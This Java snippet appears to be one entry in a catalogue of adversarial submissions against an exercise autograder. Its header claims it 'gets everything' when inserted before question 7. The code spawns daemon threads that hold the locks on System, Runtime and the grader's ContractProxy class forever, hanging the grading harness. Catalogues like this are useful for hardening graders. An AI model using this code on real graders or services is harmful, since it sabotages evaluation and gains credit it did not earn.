// Tries: leaves daemon threads that take every lock of the agent they can reach
// Cell: before q7
// Gets: everything
// Says: 
for (Class<?> type : List.of(System.class, Runtime.class, chainrule.exercises.ContractProxy.class)) {
    Thread thread = new Thread(() -> {
        synchronized (type) {
            while (true) {
                Thread.onSpinWait();
            }
        }
    });
    thread.setDaemon(true);
    thread.start();
}
